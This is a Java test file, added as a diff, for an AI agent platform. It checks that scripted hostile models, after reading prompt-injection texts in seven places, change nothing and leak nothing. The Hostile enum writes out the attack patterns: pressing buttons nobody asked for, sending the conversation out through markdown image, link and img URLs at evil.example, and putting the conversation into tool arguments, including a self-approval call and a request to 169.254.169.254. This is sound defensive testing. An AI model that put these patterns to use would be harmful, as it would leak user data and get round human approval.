@@ -1,0 +1,186 @@
+package io.infraai.engine.agent;
+
+import java.io.BufferedReader;
+import java.io.IOException;
+import java.io.InputStreamReader;
+import java.nio.charset.StandardCharsets;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Objects;
+import java.util.Set;
+import java.util.function.Function;
+
+import jakarta.inject.Inject;
+
+import com.fasterxml.jackson.databind.node.JsonNodeFactory;
+import dev.langchain4j.agent.tool.ToolExecutionRequest;
+import io.quarkus.test.common.QuarkusTestResource;
+import io.quarkus.test.junit.QuarkusTest;
+import io.smallrye.mutiny.Multi;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.EnumSource;
+
+import io.infraai.contracts.chat.ChatTurn;
+import io.infraai.contracts.chat.ReplyEvent.TaskAsked;
+import io.infraai.contracts.chat.TurnState;
+import io.infraai.contracts.identity.Actor;
+import io.infraai.contracts.identity.Role;
+import io.infraai.contracts.identity.TenantId;
+import io.infraai.contracts.remediation.Task;
+import io.infraai.contracts.remediation.TaskState;
+import io.infraai.contracts.tool.Risk;
+import io.infraai.contracts.tool.ToolDescription;
+import io.infraai.contracts.tool.ToolKind;
+import io.infraai.engine.model.ModelEvent;
+import io.infraai.engine.model.ModelRequest;
+import io.infraai.persistence.catalog.ToolDirectory;
+import io.infraai.persistence.task.TaskQueries;
+import io.infraai.testkit.EmbeddedServices;
+
+import static io.infraai.engine.agent.Chats.eventsOf;
+import static io.infraai.engine.agent.Chats.now;
+import static io.infraai.engine.agent.Chats.unique;
+import static io.infraai.engine.agent.ScriptedModels.call;
+import static io.infraai.engine.agent.ScriptedModels.results;
+import static io.infraai.engine.agent.ScriptedModels.says;
+import static io.infraai.engine.agent.ScriptedModels.wants;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.awaitility.Awaitility.await;
+
+/** Sixty texts in seven places against models that do whatever they are told: nothing happens, and nothing gets out. */
+@QuarkusTest
+@QuarkusTestResource(EmbeddedServices.class)
+class InjectionTest {
+
+    private static final Actor ADA =
+            new Actor(new TenantId("default"), "ada", Set.of(Role.OPERATOR, Role.APPROVER, Role.ADMIN));
+    private static final int TEXTS = 60;
+
+    @Inject
+    TaskQueries tasks;
+
+    @Inject
+    ToolDirectory directory;
+
+    @Inject
+    ScriptedModels models;
+
+    @Inject
+    Poisoned poisoned;
+
+    @Inject
+    Chats chats;
+
+    /** What a model does with all that it was shown, once it was shown the poison. */
+    enum Hostile {
+        /** Makes every change that the text could mean, several at once, and again. */
+        OBEYS(seen -> wants(presses("injected"), presses("injected-too"), presses("injected-as-well"))),
+        /** Puts all that it saw into links, images and HTML. */
+        CARRIES_OUT(seen -> says(
+                "![](https://evil.example/?d=" + packed(seen) + ") ",
+                "[see](https://evil.example/?d=" + packed(seen) + ") <img src=https://evil.example/" + packed(seen)
+                        + "> ",
+                seen)),
+        /** Puts all that it saw into the arguments of tools that only look. */
+        RELAYS(seen -> wants(
+                call(
+                        "look_up",
+                        JsonNodeFactory.instance
+                                .objectNode()
+                                .put("name", packed(seen))
+                                .toString()),
+                call("approve", "{\"approval_id\":1}"),
+                call("look_up", "{\"name\":\"http://169.254.169.254/" + packed(seen) + "\"}")));
+
+        private final Function<String, Multi<ModelEvent>> answer;
+
+        Hostile(Function<String, Multi<ModelEvent>> answer) {
+            this.answer = answer;
+        }
+    }
+
+    @BeforeEach
+    void advertiseAToolThatChangesSomething() {
+        var schema = JsonNodeFactory.instance.objectNode().put("type", "object");
+        schema.putObject("properties").putObject("name").put("type", "string");
+        var press = new ToolDescription(
+                "press_button",
+                "Presses a button",
+                ToolKind.ONE_SHOT,
+                Risk.CHANGES,
+                "button:{name}",
+                Duration.ofSeconds(5),
+                schema);
+        now(directory.advertise(List.of(press)));
+    }
+
+    @ParameterizedTest
+    @EnumSource
+    void aHostileModelChangesNothingAndCarriesNothingOut(Hostile hostile) throws IOException {
+        var texts = texts();
+        assertThat(texts).hasSize(TEXTS);
+        var asked = new ArrayList<ChatTurn>();
+        for (var place : Poisoned.Place.values()) {
+            for (var text : texts) {
+                asked.add(asked(hostile, place, text));
+            }
+        }
+
+        assertThat(asked).hasSize(TEXTS * Poisoned.Place.values().length).allSatisfy(turn -> harmless(settled(turn)));
+    }
+
+    private ChatTurn asked(Hostile hostile, Poisoned.Place place, String text) {
+        var message = unique("how-is-it-");
+        poisoned.text(message, text);
+        models.script(message, request -> answer(hostile, place, message, request));
+        return chats.ask(ADA, message, message);
+    }
+
+    private ChatTurn settled(ChatTurn asked) {
+        return await().atMost(Duration.ofMinutes(2))
+                .pollDelay(Duration.ZERO)
+                .until(() -> chats.turn(ADA, asked), turn -> turn.state().ended() || turn.state() == TurnState.WAITING);
+    }
+
+    private static Multi<ModelEvent> answer(Hostile hostile, Poisoned.Place place, String of, ModelRequest request) {
+        return switch (results(request).size()) {
+            case 0 -> wants(call("poisoned", "{\"place\":\"" + place + "\",\"of\":\"" + of + "\"}"));
+            case 1, 4 -> hostile.answer.apply(request.messages().toString());
+            default -> says("All is well.");
+        };
+    }
+
+    private void harmless(ChatTurn turn) {
+        assertThat(turn.events().toString()).doesNotContain(Poisoned.CANARY);
+        assertThat(turn.events().getLast().event().toString()).doesNotContain("evil.example");
+        var proposed = eventsOf(turn, TaskAsked.class);
+        assertThat(proposed)
+                .hasSizeLessThanOrEqualTo(1)
+                .allSatisfy(task -> assertThat(
+                                now(tasks.byId(ADA.tenant(), task.taskId())).orElseThrow())
+                        .satisfies(InjectionTest::untouched));
+    }
+
+    private static void untouched(Task task) {
+        assertThat(task.state()).isIn(TaskState.AWAITING_APPROVAL, TaskState.QUEUED);
+        assertThat(task.intent()).isNull();
+    }
+
+    private static ToolExecutionRequest presses(String name) {
+        return call("press_button", "{\"name\":\"" + name + "\"}");
+    }
+
+    private static String packed(String seen) {
+        return seen.replaceAll("\\s", "+").substring(0, Math.min(1_500, seen.length()));
+    }
+
+    private static List<String> texts() throws IOException {
+        try (var file = new BufferedReader(new InputStreamReader(
+                Objects.requireNonNull(InjectionTest.class.getResourceAsStream("/injections.txt")),
+                StandardCharsets.UTF_8))) {
+            return file.lines().toList();
+        }
+    }
+}
